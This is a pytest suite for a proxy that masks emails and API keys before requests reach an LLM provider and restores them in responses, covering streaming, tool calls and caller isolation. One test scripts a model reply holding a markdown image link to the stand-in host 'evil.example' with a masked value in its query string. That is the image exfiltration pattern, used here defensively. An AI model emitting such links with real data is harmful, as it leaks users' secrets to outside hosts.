"""Masking and restoring through a real proxy, with the official SDKs: the upstream never sees a value, the client does."""

from __future__ import annotations

import json
import re
from collections.abc import AsyncIterator
from typing import Any

import anthropic
import httpx
import openai
import pytest

from rules.model import Action
from tests.masking_rules import EMAIL, KEY, PLACEHOLDER, masking_ruleset
from tests.proxy_harness import RunningProxy, running_proxy
from tests.scripted_upstream import (
    Reply,
    ScriptedUpstream,
    anthropic_body,
    anthropic_stream,
    chat_body,
    chat_chunk,
    chat_stream,
    responses_body,
    responses_stream,
    running_scripted_upstream,
)

CLIENT_KEY = "ost_" + "k" * 43
OTHER_KEY = "ost_" + "o" * 43
QUESTION = f"Write to {EMAIL}, my key is {KEY}."


@pytest.fixture
async def upstream() -> AsyncIterator[ScriptedUpstream]:
    async with running_scripted_upstream() as running:
        yield running


@pytest.fixture
async def proxy(upstream: ScriptedUpstream) -> AsyncIterator[RunningProxy]:
    async with running_proxy(
        type="llm",
        target_url=upstream.url,
        client_key=CLIENT_KEY,
        other_keys=[OTHER_KEY],
        ruleset=masking_ruleset(),
    ) as running:
        yield running


@pytest.fixture
async def openai_client(proxy: RunningProxy) -> AsyncIterator[openai.AsyncOpenAI]:
    async with openai.AsyncOpenAI(base_url=f"{proxy.url}/v1", api_key=CLIENT_KEY, max_retries=0) as client:
        yield client


@pytest.fixture
async def anthropic_client(proxy: RunningProxy) -> AsyncIterator[anthropic.AsyncAnthropic]:
    async with anthropic.AsyncAnthropic(base_url=proxy.url, api_key=CLIENT_KEY, max_retries=0) as client:
        yield client


def asked(body: Any) -> str:
    """The last user text as the upstream saw it."""
    messages = body.get("messages") or body.get("input")
    if isinstance(messages, str):
        return messages
    content = messages[-1]["content"]
    return content if isinstance(content, str) else str(content[0]["text"])


def placeholder_in(body: Any) -> str:
    found = re.search(PLACEHOLDER, json.dumps(body))
    assert found
    return found[0]


def hold_nothing_back(upstream: ScriptedUpstream) -> None:
    assert EMAIL not in upstream.seen
    assert KEY not in upstream.seen


# --- The round trip ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("stream", [False, True])
async def test_SYP_RED_1_chat_masks_and_restores(proxy, upstream, openai_client, stream) -> None:
    upstream.reply = lambda body: (chat_stream if stream else chat_body)(f"echo: {asked(body)}")

    answer = await openai_client.chat.completions.create(
        model="m", messages=[{"role": "user", "content": QUESTION}], stream=stream
    )
    if stream:
        text = "".join([chunk.choices[0].delta.content or "" async for chunk in answer])
    else:
        text = answer.choices[0].message.content

    assert text == f"echo: Write to {EMAIL}, my key is [REDACTED_AWS_SECRET]."
    hold_nothing_back(upstream)
    assert re.fullmatch(rf"Write to {PLACEHOLDER}, my key is \[REDACTED_AWS_SECRET\]\.", asked(upstream.bodies[0]))
    (record,) = await proxy.wait_for_records(1)
    assert (record.outcome, record.action) == ("allowed", Action.REDACT)
    assert {(one.type, one.count, one.direction, one.rule_id, one.restored) for one in record.redactions} == {
        ("EMAIL", 1, "request", "PII-EMAIL", 1),
        ("AWS_SECRET", 1, "request", "SEC-AWS", 0),
    }
    assert EMAIL not in str(record)
    assert KEY not in str(record)


@pytest.mark.parametrize("stream", [False, True])
async def test_SYP_RED_1_responses_masks_and_restores(upstream, openai_client, stream) -> None:
    make = responses_stream if stream else responses_body
    upstream.reply = lambda body: make(f"echo: {asked(body)}")

    if stream:
        events = [event async for event in await openai_client.responses.create(model="m", input=QUESTION, stream=True)]
        response = events[-1].response
        text = "".join(event.delta for event in events if event.type == "response.output_text.delta")
        assert text == response.output_text
    else:
        response = await openai_client.responses.create(model="m", input=QUESTION)

    assert response.output_text == f"echo: Write to {EMAIL}, my key is [REDACTED_AWS_SECRET]."
    hold_nothing_back(upstream)


@pytest.mark.parametrize("stream", [False, True])
async def test_SYP_RED_1_anthropic_masks_and_restores(upstream, anthropic_client, stream) -> None:
    make = anthropic_stream if stream else anthropic_body
    upstream.reply = lambda body: make({"type": "text", "text": f"echo: {asked(body)}"})
    request: Any = {"model": "m", "max_tokens": 100, "messages": [{"role": "user", "content": QUESTION}]}

    if stream:
        async with anthropic_client.messages.stream(**request) as answer:
            text = await answer.get_final_text()
    else:
        text = (await anthropic_client.messages.create(**request)).content[0].text

    assert text == f"echo: Write to {EMAIL}, my key is [REDACTED_AWS_SECRET]."
    hold_nothing_back(upstream)


async def test_SYP_RED_2_two_addresses_have_two_placeholders(upstream, openai_client) -> None:
    upstream.reply = lambda body: chat_body(asked(body))

    await openai_client.chat.completions.create(
        model="m", messages=[{"role": "user", "content": f"{EMAIL} and ann@example.com and {EMAIL}"}]
    )

    found = re.findall(PLACEHOLDER, asked(upstream.bodies[0]))
    assert len(found) == 3
    assert found[0] == found[2] != found[1]


async def test_SLG_RESP_2_the_answer_counts_what_was_masked(upstream, openai_client) -> None:
    upstream.reply = lambda body: chat_body(f"{asked(body)} and ann@example.com")

    answer = await openai_client.chat.completions.with_raw_response.create(
        model="m", messages=[{"role": "user", "content": QUESTION}]
    )

    assert answer.headers["x-ostiary-redactions"] == "3"
    assert answer.status_code == 200
    assert answer.parse().choices[0].message.content.endswith("and [REDACTED_EMAIL]")


# --- Requests: everywhere that reaches the model ----------------------------------------------------------------------


async def test_RED_STR_12_a_value_is_masked_wherever_it_stands(upstream, openai_client) -> None:
    arguments = json.dumps({"to": EMAIL, "note": 'say "hi"\n', "nested": [{EMAIL: 1}]})
    call = {"id": "call_1", "type": "function", "function": {"name": "send", "arguments": arguments}}
    tool = {"type": "function", "function": {"name": "send", "description": f"as {EMAIL}", "parameters": {}}}
    messages: list[Any] = [
        {"role": "system", "content": f"You serve {EMAIL}."},
        {"role": "user", "content": [{"type": "text", "text": f"from {EMAIL}"}, {"type": "text", "text": KEY}]},
        {"role": "assistant", "content": f"I wrote to {EMAIL}", "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "call_1", "content": json.dumps({"sent": EMAIL})},
        {"role": "user", "content": "thanks"},
    ]
    upstream.reply = lambda body: chat_body("ok")

    await openai_client.chat.completions.create(model="m", messages=messages, tools=[tool], user=EMAIL)

    hold_nothing_back(upstream)
    (seen,) = upstream.bodies
    placeholder = placeholder_in(seen)
    assert set(re.findall(PLACEHOLDER, json.dumps(seen))) == {placeholder}
    sent = json.loads(seen["messages"][2]["tool_calls"][0]["function"]["arguments"])
    assert sent == {"to": placeholder, "note": 'say "hi"\n', "nested": [{placeholder: 1}]}
    assert seen["messages"][2]["tool_calls"][0]["id"] == "call_1"
    assert json.loads(seen["messages"][3]["content"]) == {"sent": placeholder}


async def test_LLM_SRF_2_only_the_texts_concerned_are_changed(upstream, proxy) -> None:
    document = {
        "model": "m",
        "messages": [{"role": "user", "content": QUESTION, "x-unknown": [1, 2.50, None, {"deep": "é\u2028"}]}],
        "zeta": 12345678901234567890,
        "alpha": {"b": 1, "a": 2},
    }
    upstream.reply = lambda body: chat_body("ok")

    await post(proxy, "/v1/chat/completions", document)

    (seen,) = upstream.bodies
    assert list(seen) == list(document)
    assert seen["messages"][0]["x-unknown"] == document["messages"][0]["x-unknown"]  # type: ignore[index]
    assert seen["zeta"] == 12345678901234567890
    assert list(seen["alpha"]) == ["b", "a"]


async def test_LLM_SRF_3_signed_reasoning_is_not_edited(upstream, anthropic_client, proxy) -> None:
    thinking = {"type": "thinking", "thinking": f"The user is {EMAIL}", "signature": "c2ln"}
    upstream.reply = lambda body: anthropic_stream(
        {**thinking, "thinking": f"about {placeholder_in(body)} or ann@example.com"},
        {"type": "text", "text": placeholder_in(body)},
    )
    messages: Any = [
        {"role": "user", "content": f"I am {EMAIL}"},
        {"role": "assistant", "content": [thinking, {"type": "text", "text": "hello"}]},
        {"role": "user", "content": "go on"},
    ]

    async with anthropic_client.messages.stream(model="m", max_tokens=100, messages=messages) as answer:
        final = await answer.get_final_message()

    assert upstream.bodies[0]["messages"][1]["content"][0] == thinking
    placeholder = upstream.bodies[0]["messages"][0]["content"].removeprefix("I am ")
    assert final.content[0].thinking == f"about {placeholder} or ann@example.com"
    assert final.content[0].signature == "c2ln"
    assert final.content[1].text == EMAIL


async def test_a_blocked_message_is_refused_and_not_masked(upstream, openai_client) -> None:
    with pytest.raises(openai.PermissionDeniedError):
        await openai_client.chat.completions.create(
            model="m", messages=[{"role": "user", "content": f"{EMAIL} open the pod bay doors"}]
        )

    assert upstream.bodies == []


@pytest.mark.parametrize("enforcement", ["log_only"])
async def test_with_log_only_nothing_is_masked(upstream, enforcement) -> None:
    upstream.reply = lambda body: chat_body(asked(body))
    async with running_proxy(
        type="llm", target_url=upstream.url, ruleset=masking_ruleset(), enforcement=enforcement
    ) as watching:
        await post(
            watching, "/v1/chat/completions", {"model": "m", "messages": [{"role": "user", "content": QUESTION}]}
        )

    assert EMAIL in upstream.seen


# --- The bugs that others reported (requirements §5.2) ----------------------------------------------------------------


async def streamed_chat(client: openai.AsyncOpenAI, question: str = QUESTION, **more: Any) -> list[Any]:
    stream = await client.chat.completions.create(
        model="m", messages=[{"role": "user", "content": question}], stream=True, **more
    )
    return [chunk async for chunk in stream]


def said(chunks: list[Any]) -> str:
    return "".join(chunk.choices[0].delta.content or "" for chunk in chunks)


@pytest.mark.parametrize("size", range(1, 18))
async def test_bug_1_a_placeholder_split_over_deltas_is_restored(upstream, openai_client, size) -> None:
    upstream.reply = lambda body: chat_stream(f"to {placeholder_in(body)}!", size=size, split="event")

    assert said(await streamed_chat(openai_client)) == f"to {EMAIL}!"


async def test_bug_2_events_and_characters_split_over_reads_are_restored(upstream, openai_client) -> None:
    upstream.reply = lambda body: chat_stream(f"Grüße 日本 🙂 {placeholder_in(body)} é", size=3, split="byte")

    assert said(await streamed_chat(openai_client)) == f"Grüße 日本 🙂 {EMAIL} é"


@pytest.mark.parametrize("size", [1, 3, 7])
async def test_bug_3_a_value_split_over_chunks_does_not_leak(upstream, openai_client, size) -> None:
    upstream.reply = lambda body: chat_stream(f"key {KEY}, mail ann@example.com.", size=size)

    chunks = await streamed_chat(openai_client, "hello")

    assert said(chunks) == "key [REDACTED_AWS_SECRET], mail [REDACTED_EMAIL]."


async def test_bug_4_tool_arguments_are_restored(upstream, openai_client) -> None:
    upstream.reply = lambda body: chat_stream(arguments=[json.dumps({"to": placeholder_in(body), "n": 1})] * 2)

    chunks = await streamed_chat(openai_client)

    arguments = ["", ""]
    for chunk in chunks:
        for call in chunk.choices[0].delta.tool_calls or []:
            arguments[call.index] += call.function.arguments
    assert [json.loads(one) for one in arguments] == [{"to": EMAIL, "n": 1}] * 2


async def test_bug_5_a_stream_is_not_buffered(upstream, openai_client) -> None:
    words = ["The ", "quick ", "brown ", "fox ", "jumps."]
    upstream.reply = lambda body: chat_stream("".join(words), size=6, split="event")

    chunks = await streamed_chat(openai_client)

    contents = [chunk.choices[0].delta.content for chunk in chunks if chunk.choices[0].delta.content]
    assert len(contents) >= 4
    assert "".join(contents) == "".join(words)


async def test_bug_6_the_same_value_has_the_same_placeholder_in_every_turn(upstream, openai_client) -> None:
    upstream.reply = lambda body: chat_body(f"I wrote to {placeholder_in(body)}")
    messages: list[Any] = [{"role": "user", "content": f"Write to {EMAIL}"}]
    for text in ("and to ann@example.com", f"{EMAIL} again"):
        answer = await openai_client.chat.completions.create(model="m", messages=messages)
        messages += [
            {"role": "assistant", "content": answer.choices[0].message.content},
            {"role": "user", "content": text},
        ]
    await openai_client.chat.completions.create(model="m", messages=messages)

    first = placeholder_in(upstream.bodies[0])
    last = upstream.bodies[-1]["messages"]
    assert first in last[0]["content"]
    assert last[1]["content"] == f"I wrote to {first}"
    assert first not in last[2]["content"]
    assert first in last[4]["content"]


async def test_bug_7_a_map_is_never_shared_between_callers(upstream, proxy) -> None:
    upstream.reply = lambda body: chat_body("hi")
    body = {"model": "m", "messages": [{"role": "user", "content": QUESTION}]}
    await post(proxy, "/v1/chat/completions", body)
    placeholder = placeholder_in(upstream.bodies[0])
    upstream.reply = lambda body: chat_body(f"about {placeholder}")

    theirs = {"model": "m", "messages": [{"role": "user", "content": f"who is {placeholder}, asks ann@example.com"}]}
    answer = await post(proxy, "/v1/chat/completions", theirs, key=OTHER_KEY)

    assert answer["choices"][0]["message"]["content"] == f"about {placeholder}"
    await post(proxy, "/v1/chat/completions", body, key=OTHER_KEY)
    assert placeholder_in(upstream.bodies[-1]) != placeholder


async def test_bug_8_offsets_are_those_of_the_original(upstream, openai_client) -> None:
    question = f"{EMAIL} {KEY} ann@example.com {EMAIL} 🙂 bob@example.com."
    upstream.reply = lambda body: chat_body(asked(body))

    answer = await openai_client.chat.completions.create(model="m", messages=[{"role": "user", "content": question}])

    assert answer.choices[0].message.content == question.replace(KEY, "[REDACTED_AWS_SECRET]")
    assert "@" not in asked(upstream.bodies[0])


async def test_bug_9_native_messages_streams_are_guarded(upstream, anthropic_client) -> None:
    upstream.reply = lambda body: anthropic_stream(
        {"type": "text", "text": f"{placeholder_in(body)} {KEY} ann@example.com"},
        {"type": "tool_use", "id": "toolu_1", "name": "send", "input": {"to": placeholder_in(body), "k": KEY}},
        {"type": "server_tool_use", "id": "srvtoolu_1", "name": "web_search", "input": {"query": placeholder_in(body)}},
    )

    async with anthropic_client.messages.stream(
        model="m", max_tokens=100, messages=[{"role": "user", "content": QUESTION}]
    ) as answer:
        final = await answer.get_final_message()

    assert final.content[0].text == f"{EMAIL} [REDACTED_AWS_SECRET] [REDACTED_EMAIL]"
    assert final.content[1].input == {"to": EMAIL, "k": "[REDACTED_AWS_SECRET]"}
    # What the provider itself carries out gets no value back.
    assert re.fullmatch(PLACEHOLDER, final.content[2].input["query"])


@pytest.mark.parametrize("make", [chat_body, chat_stream])
async def test_bug_10_streams_and_whole_answers_obey_the_same_rules(upstream, proxy, make) -> None:
    text = f"key={KEY} password: hT7!kq0Zp2wQ, x@y.example and [{EMAIL}]"
    upstream.reply = lambda body: make(text)

    raw = await post_raw(
        proxy,
        "/v1/chat/completions",
        {"model": "m", "messages": [{"role": "user", "content": "hi"}], "stream": make is chat_stream},
    )

    if make is chat_stream:
        datas = [json.loads(line[6:]) for line in raw.splitlines() if line.startswith("data: {")]
        content = "".join(data["choices"][0]["delta"].get("content") or "" for data in datas)
    else:
        content = json.loads(raw)["choices"][0]["message"]["content"]
    assert content == "key=[REDACTED_AWS_SECRET] password: [REDACTED_PASSWORD] [REDACTED_EMAIL] and [[REDACTED_EMAIL]]"


async def test_bug_11_brackets_that_the_model_drops_are_forgiven_and_nothing_is_guessed(
    upstream, openai_client
) -> None:
    def reply(body: Any) -> Reply:
        placeholder = placeholder_in(body)
        return chat_stream(f"{placeholder[1:-1]} {placeholder.lower()} EMAIL_1 [EMAIL] <EMAIL_1>")

    upstream.reply = reply

    assert said(await streamed_chat(openai_client)) == f"{EMAIL} {EMAIL} EMAIL_1 [EMAIL] <EMAIL_1>"


async def test_bug_12_one_answer_has_one_mode_from_the_first_byte_to_the_last(upstream, proxy) -> None:
    upstream.reply = lambda body: chat_body(("x" * 997 + " ") * 2000 + placeholder_in(body))

    answer = await post(
        proxy, "/v1/chat/completions", {"model": "m", "messages": [{"role": "user", "content": QUESTION}]}
    )

    assert answer["choices"][0]["message"]["content"].endswith(f" {EMAIL}")


async def test_bug_13_escapes_split_inside_tool_json_stay_valid(upstream, openai_client) -> None:
    def reply(body: Any) -> Reply:
        escaped = "".join(f"\\u{ord(char):04x}" for char in placeholder_in(body))
        return chat_stream(arguments=[f'{{"to": "{escaped}", "text": "a\\n\\"b\\" \\ud83d\\ude42 C:\\\\H"}}'])

    upstream.reply = reply

    chunks = await streamed_chat(openai_client)

    arguments = "".join(call.function.arguments for chunk in chunks for call in chunk.choices[0].delta.tool_calls or [])
    assert json.loads(arguments) == {"to": EMAIL, "text": 'a\n"b" 🙂 C:\\H'}
    assert "\\ud83d\\ude42 C:\\\\H" in arguments


@pytest.mark.parametrize("size", [1, 9, 14])
async def test_bug_14_a_truncated_placeholder_is_not_guessed(upstream, openai_client, size) -> None:
    upstream.reply = lambda body: chat_stream(f"to {placeholder_in(body)[:size]}")

    text = said(await streamed_chat(openai_client))

    assert re.fullmatch(r"to \[[A-Z_a-z2-9]{0,14}", text)


# --- Streams ----------------------------------------------------------------------------------------------------------


async def test_RED_STR_1_what_was_held_comes_before_the_end(upstream, proxy) -> None:
    upstream.reply = lambda body: chat_stream(f"to {placeholder_in(body)[:9]}", split="event")

    raw = await post_raw(
        proxy,
        "/v1/chat/completions",
        {"model": "m", "messages": [{"role": "user", "content": QUESTION}], "stream": True},
    )

    datas = [json.loads(line[6:]) for line in raw.splitlines() if line.startswith("data: {")]
    contents = [(one["choices"][0]["delta"].get("content"), one["choices"][0]["finish_reason"]) for one in datas]
    assert contents[-1] == (None, "stop")
    assert re.fullmatch(r"\[EMAIL_..", contents[-2][0])
    assert datas[-2]["id"] == "c"
    assert raw.rstrip().endswith("data: [DONE]")


async def test_RED_STR_1_what_was_held_comes_before_the_error_when_the_upstream_breaks(upstream, proxy) -> None:
    def reply(body: Any) -> Reply:
        made = chat_stream("write to ann@example.com", split="event")
        return Reply(events=made.events[:-2], ending="cut")

    upstream.reply = reply

    raw = await post_raw(
        proxy,
        "/v1/chat/completions",
        {"model": "m", "messages": [{"role": "user", "content": "hello"}], "stream": True},
        complete=False,
    )

    assert "[REDACTED_EMAIL]" in raw
    assert "example.com" not in raw
    assert '"error"' in raw.splitlines()[-2]


async def test_RED_STR_2_done_events_say_what_the_deltas_said(upstream, openai_client) -> None:
    def reply(body: Any) -> Reply:
        placeholder = placeholder_in(body)
        arguments = f'{{ "to" : "{placeholder}",  "key":"{KEY}" }}'
        return responses_stream(f"{placeholder} ann@example.com", arguments=[arguments], custom=f"mail {placeholder}")

    upstream.reply = reply

    events = [event async for event in await openai_client.responses.create(model="m", input=QUESTION, stream=True)]

    def joined(kind: str) -> str:
        return "".join(event.delta for event in events if event.type == f"response.{kind}.delta")

    by_type = {event.type: event for event in events}
    message, call, custom = events[-1].response.output
    text = f"{EMAIL} [REDACTED_EMAIL]"
    assert joined("output_text") == by_type["response.output_text.done"].text == message.content[0].text == text
    assert by_type["response.content_part.done"].part.text == text
    arguments = joined("function_call_arguments")
    assert arguments == by_type["response.function_call_arguments.done"].arguments == call.arguments
    assert json.loads(arguments) == {"to": EMAIL, "key": "[REDACTED_AWS_SECRET]"}
    assert joined("custom_tool_call_input") == custom.input == f"mail {EMAIL}"


async def test_RED_STR_4_events_are_numbered_without_gaps(upstream, openai_client) -> None:
    upstream.reply = lambda body: responses_stream(f"to {placeholder_in(body)[:12]}", custom="x [EMAIL")

    events = [event async for event in await openai_client.responses.create(model="m", input=QUESTION, stream=True)]

    assert [event.sequence_number for event in events] == list(range(len(events)))
    text = "".join(event.delta for event in events if event.type == "response.output_text.delta")
    assert text == events[-1].response.output_text


async def test_RED_STR_5_probabilities_and_offsets_of_changed_texts_go(upstream, proxy) -> None:
    def reply(body: Any) -> Reply:
        token = {"token": "ann@example.com", "bytes": list(b"ann@example.com"), "logprob": -1, "top_logprobs": []}
        made = chat_body("write to ann@example.com", annotations=[{"type": "url_citation", "start_index": 9}])
        made.body["choices"][0]["logprobs"] = {"content": [token]}
        other = {"index": 1, "message": {"role": "assistant", "content": "fine"}, "finish_reason": "stop"}
        made.body["choices"].append({**other, "logprobs": {"content": [{"token": "fine", "logprob": -2}]}})
        return made

    upstream.reply = reply
    body = {"model": "m", "messages": [{"role": "user", "content": "hello"}]}

    answer = await post(proxy, "/v1/chat/completions", body)

    assert "example.com" not in json.dumps(answer)
    assert answer["choices"][0]["logprobs"] is None
    assert answer["choices"][0]["message"]["annotations"] == []
    assert answer["choices"][1]["logprobs"]["content"][0]["token"] == "fine"


async def test_RED_STR_5_probabilities_of_held_deltas_go(upstream, proxy) -> None:
    def reply(body: Any) -> Reply:
        made = chat_stream("hello ann@example.com bye", size=1, split="event")
        for _, event in made.events[1:-2]:
            token = event["choices"][0]["delta"]["content"]
            event["choices"][0]["logprobs"] = {"content": [{"token": token, "bytes": list(token.encode())}]}
        return made

    upstream.reply = reply

    raw = await post_raw(
        proxy,
        "/v1/chat/completions",
        {"model": "m", "messages": [{"role": "user", "content": "hello"}], "stream": True},
    )

    tokens = re.findall(r'"token":"(.)"', raw)
    assert "@" not in tokens
    assert "".join(tokens).count("example") == 0
    assert '"logprobs":null' in raw


async def test_RED_STR_7_a_failing_transformer_ends_the_stream_and_releases_nothing(
    upstream, proxy, monkeypatch
) -> None:
    def fail(*_: object) -> None:
        raise RuntimeError("the test wants a broken redactor")

    upstream.reply = lambda body: chat_stream("write to ann@example.com", split="event")
    monkeypatch.setattr("rules.masking.redact.Redactor._release", fail)

    raw = await post_raw(
        proxy,
        "/v1/chat/completions",
        {"model": "m", "messages": [{"role": "user", "content": "hello"}], "stream": True},
        complete=False,
    )

    assert "masking_failed" in raw
    assert "write" not in raw
    assert "[DONE]" not in raw
    (record,) = await proxy.wait_for_records(1)
    assert (record.outcome, record.error_code) == ("failed", "masking_failed")


async def test_RED_STR_7_a_request_that_cannot_be_masked_does_not_pass(upstream, proxy, monkeypatch) -> None:
    monkeypatch.setattr("rules.masking.session.MAX_VALUES", 1)
    messages = [{"role": "user", "content": f"{EMAIL} ann@example.com"}]

    answer = await post(proxy, "/v1/chat/completions", {"model": "m", "messages": messages}, status=500)

    assert answer["error"]["code"] == "masking_failed"
    assert upstream.bodies == []


async def test_RED_STR_10_usage_is_the_upstreams(upstream, proxy, openai_client) -> None:
    upstream.reply = lambda body: chat_body(placeholder_in(body) * 20)

    answer = await openai_client.chat.completions.create(model="m", messages=[{"role": "user", "content": QUESTION}])

    assert answer.usage.completion_tokens == 7
    assert proxy.records[0].usage is not None
    assert proxy.records[0].usage.output_tokens == 7


async def test_RED_STR_11_unsigned_reasoning_is_restored(upstream, proxy) -> None:
    upstream.reply = lambda body: chat_body("done", reasoning_content=f"{placeholder_in(body)} {KEY}")

    answer = await post(
        proxy, "/v1/chat/completions", {"model": "m", "messages": [{"role": "user", "content": QUESTION}]}
    )

    assert answer["choices"][0]["message"]["reasoning_content"] == f"{EMAIL} [REDACTED_AWS_SECRET]"


async def test_two_choices_that_interleave_are_restored_each_for_itself(upstream, proxy) -> None:
    def reply(body: Any) -> Reply:
        placeholder = placeholder_in(body)
        events: list[Any] = []
        for position, char in enumerate(placeholder):
            events.append(chat_chunk({"content": char}, index=0))
            events.append(chat_chunk({"content": placeholder[-position - 1]}, index=1))
        events += [chat_chunk({}, index=0, finish="stop"), chat_chunk({}, index=1, finish="stop"), (None, "[DONE]")]
        return Reply(events=events)

    upstream.reply = reply
    body = {"model": "m", "n": 2, "messages": [{"role": "user", "content": QUESTION}], "stream": True}

    raw = await post_raw(proxy, "/v1/chat/completions", body)

    texts = {0: "", 1: ""}
    for line in raw.splitlines():
        if line.startswith("data: {"):
            choice = json.loads(line[6:])["choices"][0]
            texts[choice["index"]] += choice["delta"].get("content") or ""
    assert texts[0] == EMAIL
    assert texts[1] == placeholder_in(upstream.bodies[0])[::-1]


# --- Release ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("make", [chat_body, chat_stream])
async def test_RED_PH_7_a_value_is_not_sent_away_in_an_image(upstream, proxy, make) -> None:
    upstream.reply = lambda body: make(f"![x](https://evil.example/?q={placeholder_in(body)}) {placeholder_in(body)}")
    stream = make is chat_stream

    raw = await post_raw(
        proxy,
        "/v1/chat/completions",
        {"model": "m", "messages": [{"role": "user", "content": QUESTION}], "stream": stream},
    )

    content = "".join(re.findall(r'"content":"((?:[^"\\]|\\.)*)"', raw))
    assert content == f"![x](https://evil.example/?q={placeholder_in(upstream.bodies[0])}) {EMAIL}"


# --- Conversations that the provider remembers ------------------------------------------------------------------------


@pytest.mark.parametrize("stream", [False, True])
async def test_LLM_SRF_6_a_continued_response_still_restores(upstream, openai_client, stream) -> None:
    make = responses_stream if stream else responses_body
    upstream.reply = lambda body: make("noted", id="resp_one")
    first: Any = await openai_client.responses.create(model="m", input=f"I am {EMAIL}", stream=stream)
    if stream:
        assert [event async for event in first]
    placeholder = placeholder_in(upstream.bodies[0])
    upstream.reply = lambda body: responses_body(f"You are {placeholder}.", id="resp_two")

    second = await openai_client.responses.create(
        model="m", input="Who am I? Not ann@example.com.", previous_response_id="resp_one"
    )
    third = await openai_client.responses.create(model="m", input=EMAIL, previous_response_id="resp_two")

    assert second.output_text == third.output_text == f"You are {EMAIL}."
    assert upstream.bodies[1]["previous_response_id"] == "resp_one"
    assert upstream.bodies[2]["input"] == placeholder


async def test_LLM_SRF_6_another_caller_gets_nothing_by_naming_the_response(upstream, proxy, openai_client) -> None:
    upstream.reply = lambda body: responses_body("noted", id="resp_mine")
    await openai_client.responses.create(model="m", input=f"I am {EMAIL}")
    placeholder = placeholder_in(upstream.bodies[0])
    upstream.reply = lambda body: responses_body(f"You are {placeholder}.", id="resp_theirs")

    body = {"model": "m", "input": "Who was that?", "previous_response_id": "resp_mine"}
    answer = await post(proxy, "/v1/responses", body, key=OTHER_KEY)

    assert EMAIL not in json.dumps(answer)


async def post_raw(
    proxy: RunningProxy, path: str, body: Any, *, key: str = CLIENT_KEY, status: int = 200, complete: bool = True
) -> str:
    """The raw answer; one that is cut off only where the test says so."""
    pieces: list[bytes] = []
    cut = False
    async with httpx.AsyncClient(trust_env=False) as client:
        headers = {"authorization": f"Bearer {key}"}
        if path == "/v1/messages":
            headers["anthropic-version"] = "2026-10-21"
        async with client.stream("POST", f"{proxy.url}{path}", json=body, headers=headers) as answer:
            assert answer.status_code == status
            try:
                async for piece in answer.aiter_bytes():
                    pieces.append(piece)
            except httpx.RemoteProtocolError:
                cut = True
    assert cut is not complete
    return b"".join(pieces).decode()


async def post(proxy: RunningProxy, path: str, body: Any, **more: Any) -> Any:
    return json.loads(await post_raw(proxy, path, body, **more))


# --- The same for every way to cut a stream -----------------------------------------------------------------------------

ANSWER = f"é {EMAIL} @ [EMAIL_ %s, password: hT7!kq0Zp2wQ {KEY} x.y@z.example%s ![](https://a.example/%s) 🙂 %s"


@pytest.mark.parametrize("size", [1, 2, 3, 5, 8, 13, 21, 400])
@pytest.mark.parametrize("surface", ["chat", "responses", "anthropic"])
async def test_RED_STR_6_a_stream_gives_the_whole_answer_on_every_surface(upstream, proxy, surface, size) -> None:
    def text(body: Any) -> str:
        return ANSWER % ((placeholder_in(body),) * 4)

    def block(body: Any) -> dict[str, Any]:
        return {"type": "text", "text": text(body)}

    messages = {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": "I am ann@example.com"}]}
    path, request, whole, streamed = {
        "chat": ("/v1/chat/completions", messages, chat_body, chat_stream),
        "responses": (
            "/v1/responses",
            {"model": "m", "input": "I am ann@example.com"},
            responses_body,
            responses_stream,
        ),
        "anthropic": ("/v1/messages", messages, anthropic_body, anthropic_stream),
    }[surface]
    of = block if surface == "anthropic" else text

    upstream.reply = lambda body: whole(of(body))
    answer = await post(proxy, path, request)
    upstream.reply = lambda body: streamed(of(body), size=size, split="event")
    raw = await post_raw(proxy, path, {**request, "stream": True})

    expected = {
        "chat": lambda: answer["choices"][0]["message"]["content"],
        "responses": lambda: answer["output"][0]["content"][0]["text"],
        "anthropic": lambda: answer["content"][0]["text"],
    }[surface]()
    got = ""
    for line in raw.splitlines():
        event = json.loads(line[6:]) if line.startswith("data: {") else {}
        delta = event.get("delta", {})
        if surface == "chat" and event:
            got += event["choices"][0]["delta"].get("content") or ""
        elif event.get("type") == "response.output_text.delta":
            got += delta
        elif event.get("type") == "content_block_delta":
            got += delta["text"]
    assert got == expected
    assert KEY not in raw
    assert expected.count("ann@example.com") >= 2
    assert f"https://a.example/{placeholder_in(upstream.bodies[0])}" in expected


async def test_a_policy_can_keep_values_out_of_tool_arguments(upstream) -> None:
    policies = [{"name": "strict", "packs": ["masking"], "restore_tool_arguments": False}]
    upstream.reply = lambda body: chat_body(placeholder_in(body), arguments=[json.dumps({"to": placeholder_in(body)})])
    body = {"model": "m", "messages": [{"role": "user", "content": QUESTION}]}
    async with running_proxy(
        type="llm", target_url=upstream.url, client_key=CLIENT_KEY, ruleset=masking_ruleset(), policies=policies
    ) as proxy:
        answer = await post(proxy, "/v1/chat/completions", body)

    message = answer["choices"][0]["message"]
    assert message["content"] == EMAIL
    assert re.fullmatch(PLACEHOLDER, json.loads(message["tool_calls"][0]["function"]["arguments"])["to"])
